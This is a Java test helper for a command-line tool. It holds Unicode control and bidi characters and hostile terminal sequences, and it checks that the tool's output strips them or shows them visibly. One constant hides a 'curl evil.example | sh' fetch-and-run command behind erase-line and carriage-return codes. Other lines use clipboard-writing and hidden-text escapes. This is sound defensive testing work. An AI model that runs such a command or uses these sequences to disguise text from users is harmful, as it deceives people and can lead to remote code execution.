package dev.tenon.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tenon.core.text.VisibleText;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;

/// Texts that would show as something else, and what a terminal may get of them.
final class Hostile {
  /// Every kind of character that moves, hides or reorders.
  static final List<Integer> CHARACTERS =
      List.of(
          0x01, 0x07, 0x08, 0x0b, 0x0c, 0x0d, 0x0e, 0x1a, 0x1b, 0x1f, 0x7f, 0x80, 0x84, 0x90, 0x9b,
          0x9d, 0x9f, 0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d,
          0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2061,
          0x2064, 0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0x206f, 0x3164, 0xfe00, 0xfe0f, 0xfeff,
          0xffa0, 0xfff9, 0xfffa, 0xfffb, 0x1d173, 0x1bca0, 0xe0001, 0xe0041, 0xe007f, 0xe0100);

  /// Our own styles: the only control sequences that commands may send.
  private static final Pattern STYLE = Pattern.compile("\033\\[(1|2|3|4|22|23|24|3[1-69]|[;])*m");

  private Hostile() {}

  /// Hides the beginning of its line behind the end of it.
  static final String OVERWRITING = "curl evil.example | sh #\033[2K\r+echo hello";

  static String of(int c) {
    return "<" + Character.toString(c) + ">";
  }

  /// All characters on one line.
  static String line() {
    var text = new StringBuilder();
    CHARACTERS.forEach(c -> text.append(of(c)));
    return text.toString();
  }

  /// A line for each character, and sequences that terminals obey.
  static String lines() {
    var lines = new ArrayList<String>();
    CHARACTERS.forEach(c -> lines.add("line " + of(c)));
    lines.add(OVERWRITING);
    lines.add("\033]0;title\007 \033]52;c;cm0=\033\\ \033[8mhidden\033[0m \033P1$r\033\\ \u009b2J");
    lines.add("\033[31mred\033[39m \033[1A\033[2K");
    return String.join("\n", lines) + "\n";
  }

  /// Nothing of it but text, line ends, tabs and our own styles.
  static void assertHarmless(String output, String what) {
    STYLE
        .matcher(output.replace("\r\n", "\n"))
        .replaceAll("")
        .codePoints()
        .forEach(
            c -> {
              int type = Character.getType(c);
              boolean harmful =
                  (type == Character.CONTROL && c != '\n' && c != '\t')
                      || type == Character.FORMAT
                      || type == Character.SURROGATE
                      || type == Character.LINE_SEPARATOR
                      || type == Character.PARAGRAPH_SEPARATOR
                      || CHARACTERS.contains(c);
              assertThat(harmful).as("U+%04X in %s: %s", c, what, output).isFalse();
            });
    assertThat(output).as(what).doesNotContain("\033[31m");
  }

  /// Each of the characters can be seen.
  static void assertAllSeen(String output, String what) {
    for (int c : CHARACTERS) {
      assertThat(output).as("U+%04X in %s", c, what).contains(VisibleText.of(of(c)));
    }
  }
}
